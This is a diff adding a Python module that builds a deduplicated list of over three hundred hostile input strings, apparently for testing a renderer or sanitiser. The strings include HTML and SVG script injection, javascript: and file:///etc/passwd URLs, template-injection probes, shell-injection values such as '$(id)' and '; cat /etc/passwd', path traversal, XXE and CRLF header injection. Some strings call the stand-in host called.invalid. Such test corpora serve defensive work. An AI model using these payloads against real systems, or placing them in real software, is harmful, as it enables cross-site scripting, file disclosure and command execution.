@@ -1,0 +1,217 @@
+"""Texts that want to run something, call somebody or read a file, wherever they are put: more than three hundred."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+__all__ = ["CALLED", "hostile"]
+
+CALLED = "http://called.invalid/"
+"""No page may ask for anything there."""
+
+_RUN = "hit(1)"
+_ELEMENTS = (
+    "<script>{run}</script>",
+    "<script src={called}x.js></script>",
+    "<ScRiPt>{run}</sCrIpT>",
+    "<script\n>{run}</script\n>",
+    "<script/x>{run}</script>",
+    "<<script>{run}//<</script>",
+    "<scr<script>ipt>{run}</scr</script>ipt>",
+    "<script type=module>{run}</script>",
+    "<svg><script>{run}</script></svg>",
+    "<math><script>{run}</script></math>",
+    "<img src=x onerror={run}>",
+    '<img src="x" onerror="{run}">',
+    "<img/src=x/onerror={run}>",
+    "<img src={called}i.png>",
+    "<img srcset={called}s.png>",
+    "<svg onload={run}>",
+    "<svg/onload={run}>",
+    "<svg><animate onbegin={run} attributeName=x>",
+    "<svg><set onbegin={run}>",
+    "<svg><use href=data:image/svg+xml,x></svg>",
+    "<svg><image href={called}v.png></svg>",
+    "<body onload={run}>",
+    "<body onpageshow={run}>",
+    "<input autofocus onfocus={run}>",
+    "<select autofocus onfocus={run}>",
+    "<textarea autofocus onfocus={run}>",
+    "<details open ontoggle={run}>",
+    "<video src=x onerror={run}>",
+    "<video><source onerror={run}></video>",
+    "<audio src=x onerror={run}>",
+    "<video poster={called}p.png>",
+    "<marquee onstart={run}>",
+    "<div onmouseover={run} style=position:fixed;inset:0>",
+    "<div style=animation-name:x onanimationstart={run}>",
+    "<iframe src=javascript:{run}>",
+    "<iframe srcdoc='<script>parent.{run}</script>'>",
+    "<iframe src={called}f></iframe>",
+    "<iframe src=file:///etc/passwd>",
+    "<object data=javascript:{run}>",
+    "<object data=file:///etc/passwd>",
+    "<embed src=javascript:{run}>",
+    "<embed src={called}e>",
+    "<link rel=stylesheet href={called}l.css>",
+    "<link rel=preload as=image href={called}l.png>",
+    "<style>@import '{called}s.css';</style>",
+    "<style>*{{background:url({called}b.png)}}</style>",
+    "<p style=background:url({called}q.png)>",
+    "<meta http-equiv=refresh content='0;url={called}m'>",
+    "<base href={called}>",
+    "<form action={called}><button autofocus>",
+    "<button formaction=javascript:{run}>x</button>",
+    "<a href=javascript:{run}>x</a>",
+    "<a href=' javascript:{run}'>x</a>",
+    "<a ping={called}p href=#>x</a>",
+    "<template><script>{run}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
+    "<table background={called}t.png>",
+    "<portal src={called}>",
+    "<xss onclick={run} tabindex=1 id=x>",
+    "<plaintext>",
+    "<xmp>",
+    "<isindex action=javascript:{run}>",
+    "<frameset onload={run}>",
+    "<dialog open onclose={run}>",
+    "<input type=image src={called}i>",
+)
+_BEFORE = ('">', "'>", "-->", "</title>", "</style>", "</textarea></script>", "]]>")
+"""What may close the place that a text stands in."""
+_ATTRIBUTES = (
+    "{q} onmouseover={q}{run}",
+    "{q} autofocus onfocus={q}{run}",
+    "{q} onload={run} x={q}",
+    "{q}onerror={run} src=x {q}",
+    "{q} style={q}background:url({called}a.png)",
+    "{q} href={q}javascript:{run}",
+    "{q}/onclick={run}//",
+    "{q}\nonclick={run}\n",
+)
+_ADDRESSES = (
+    "javascript:{run}",
+    "JaVaScRiPt:{run}",
+    " javascript:{run}",
+    "java\tscript:{run}",
+    "java\nscript:{run}",
+    "\x01javascript:{run}",
+    "javascript&colon;{run}",
+    "&#106;avascript:{run}",
+    "&#x6A;avascript:{run}",
+    "javascript:/*--></title></style>*/{run}",
+    "javascript://%0a{run}",
+    "vbscript:{run}",
+    "data:text/html,<script>{run}</script>",
+    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
+    "data:image/svg+xml,<svg onload={run}>",
+    "file:///etc/passwd",
+    "FILE:///etc/passwd",
+    "view-source:file:///etc/passwd",
+    "blob:null/{run}",
+    "filesystem:http://x/{run}",
+    "jar:http://x!/",
+    "//called.invalid/x",
+    "\\\\called.invalid\\x",
+    "/\\called.invalid/x",
+    "/\t/called.invalid/x",
+    "https:\\\\called.invalid",
+    "ftp://called.invalid/x",
+    "ws://called.invalid/x",
+    "intent://called.invalid#Intent;end",
+    'http://x"onclick={run}',
+    "http://x' onclick={run} '",
+    "http://x/><script>{run}</script>",
+    'mailto:x"onclick={run}',
+    '#"onclick={run}',
+    "about:blank",
+    "chrome://settings",
+    "resource://x",
+    "%6Aavascript:{run}",
+    "javascript\x00:{run}",
+    "ｊavascript:{run}",
+)
+_TEMPLATES = (
+    "{{ 7 * 7 }}",
+    "{{ ''.__class__.__mro__ }}",
+    "{% for a in range(100000) %}x{% endfor %}",
+    "{% include 'page.html' %}",
+    "{% include '/etc/passwd' %}",
+    "{% raw %}",
+    "{% endraw %}{{ slots }}",
+    "{{ x|safe }}",
+    "{# comment",
+    "{%- set x = 1 -%}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{constructor.constructor('hit(1)')()}}",
+    "[[7*7]]",
+    "*|MC:SUBJECT|*",
+    "%%=v(@x)=%%",
+    "{first_name}",
+    "{first_name|",
+    "{first_name.__class__}",
+    "{0.__init__.__globals__}",
+    "%(x)s",
+    "%n%s%x",
+    "$(id)",
+    "`id`",
+    "; cat /etc/passwd",
+    "../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "|cat /etc/passwd",
+    "<!--#include file='/etc/passwd'-->",
+    "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
+    "<?php system('id') ?>",
+    "<?xml-stylesheet href='http://called.invalid/x'?>",
+    "<mj-include path='/etc/passwd'/>",
+    "<mj-raw><script>hit(1)</script></mj-raw>",
+    "<esi:include src='http://called.invalid/x'/>",
+    "x\r\nBcc: a@called.invalid",
+    "x\r\n\r\n<script>hit(1)</script>",
+    "%0d%0aSet-Cookie:x=1",
+    "\u2028hit(1)\u2029",
+    "\ufeff<script>hit(1)</script>",
+    "\u202e<script>hit(1)</script>",
+    "＜script＞hit(1)＜/script＞",
+    "\x00<script>hit(1)</script>",
+    "&lt;script&gt;hit(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;",
+    "%3Cscript%3Ehit(1)%3C/script%3E",
+    "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
+    "\\u003cscript\\u003ehit(1)",
+    "</script><script>hit(1)</script>",
+    "';hit(1);//",
+    '";hit(1);//',
+    "`;hit(1);//",
+    "*/hit(1)/*",
+    "<!--><script>hit(1)</script>-->",
+    "<![CDATA[<script>hit(1)</script>]]>",
+    "<![endif]--><script>hit(1)</script>",
+    "<!--[if mso]><script>hit(1)</script><![endif]-->",
+    "expression(hit(1))",
+    "}body{background:url(http://called.invalid/c.png)}",
+    "red;background:url(http://called.invalid/c.png)",
+    "x" * 180,
+)
+
+
+def hostile() -> tuple[str, ...]:
+    """Each text once, in an order that stays."""
+    return tuple(dict.fromkeys(_all()))
+
+
+def _all() -> Iterator[str]:
+    values = {"run": _RUN, "called": CALLED}
+    for number, element in enumerate(_ELEMENTS):
+        text = element.format(**values)
+        yield text
+        for step in range(2):
+            yield _BEFORE[(number * 2 + step) % len(_BEFORE)] + text
+    for attribute in _ATTRIBUTES:
+        for quote in ('"', "'", "`", ""):
+            yield attribute.format(q=quote, **values)
+    for address in _ADDRESSES:
+        yield address.format(**values)
+    yield from _TEMPLATES
